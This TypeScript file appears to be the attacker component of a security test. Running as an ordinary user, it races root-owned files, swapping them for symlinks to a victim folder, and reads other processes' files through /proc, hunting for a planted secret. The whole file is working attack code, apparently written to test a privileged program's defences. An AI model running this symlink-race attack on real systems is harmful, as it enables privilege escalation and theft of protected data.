/**
 * Another user beside root: swaps every name that it may rename for a link to root's own files, and back, woken by
 * inotify, and tries to read all that it sees. `attacker.ts '{"places": [...], "victim": FOLDER, "secret": TEXT}'`,
 * until its input ends. Then it prints what it did, and where it found the secret.
 */
import {
  closeSync,
  constants,
  lstatSync,
  openSync,
  readdirSync,
  readSync,
  renameSync,
  symlinkSync,
  unlinkSync,
  watch,
} from 'node:fs'
import { join } from 'node:path'

interface AttackOrder {
  readonly places: readonly string[]
  readonly victim: string
  readonly secret: string
}

const { places, victim, secret } = JSON.parse(process.argv[2] ?? '{}') as AttackOrder
const asideName = '.aside-'
const found = new Set<string>()
/** Names that lead to the victim just now, and what they led to. */
const swapped = new Map<string, { readonly aside: string; readonly untilRound: number }>()
let swaps = 0
let round = 0

function attempt<Value>(work: () => Value): Value | null {
  try {
    return work()
  } catch {
    return null
  }
}

function lookForSecret(path: string): void {
  const file = attempt(() => openSync(path, constants.O_RDONLY | constants.O_NONBLOCK))
  if (file === null) return
  const bytes = Buffer.alloc(65_536)
  const length = attempt(() => readSync(file, bytes, 0, bytes.length, 0)) ?? 0
  closeSync(file)
  if (bytes.subarray(0, length).includes(secret)) found.add(path)
}

function lookInto(folder: string): void {
  for (const name of attempt(() => readdirSync(folder)) ?? []) lookForSecret(join(folder, name))
}

function swap(path: string): void {
  const stats = attempt(() => lstatSync(path))
  if (stats?.uid !== 0 || stats.isSymbolicLink()) return
  lookForSecret(path)
  lookInto(path)
  const aside = join(path, `../${asideName}${swaps}`)
  if (attempt(() => renameSync(path, aside) ?? true) === null) return
  const target = stats.isDirectory() ? victim : join(victim, 'app.db')
  attempt(() => symlinkSync(target, path))
  swapped.set(path, { aside, untilRound: round + 1 + (swaps++ % 20) })
}

function swapBack(path: string, aside: string): void {
  if (attempt(() => lstatSync(path))?.isSymbolicLink() === true) attempt(() => unlinkSync(path))
  attempt(() => renameSync(aside, path))
  swapped.delete(path)
}

/** The readers of root run as this same user: it tries their files and folders through /proc. */
function lookIntoProcesses(): void {
  for (const pid of readdirSync('/proc').filter((name) => Number(name) > 0 && Number(name) !== process.pid)) {
    lookInto(`/proc/${pid}/root`)
    lookInto(`/proc/${pid}/cwd`)
    lookInto(`/proc/${pid}/fd`)
  }
}

function swapAll(): void {
  for (const place of places) {
    const names = attempt(() => readdirSync(place)) ?? []
    for (const name of names) if (!name.startsWith(asideName)) swap(join(place, name))
  }
}

const input = { ended: false }
process.stdin
  .on('end', () => {
    input.ended = true
  })
  .resume()
const woken = { wake: (): void => undefined }
for (const place of places) {
  watch(place, (_, name) => {
    // Not by our own swaps.
    if (name !== null && !name.startsWith(asideName) && !swapped.has(join(place, name))) woken.wake()
  })
}
process.stdout.write(`${JSON.stringify({ ready: true })}\n`)
while (!input.ended) {
  round++
  swapAll()
  for (const [path, { aside, untilRound }] of swapped) if (round >= untilRound) swapBack(path, aside)
  if (round % 100 === 0) lookIntoProcesses()
  await new Promise<void>((resolve) => {
    woken.wake = () => void setImmediate(resolve) // The end of our input must be noticed too.
    setTimeout(resolve, 2)
  })
}
for (const [path, { aside }] of swapped) swapBack(path, aside)
process.stdout.write(`${JSON.stringify({ swaps, found: [...found] })}\n`, () => process.exit())
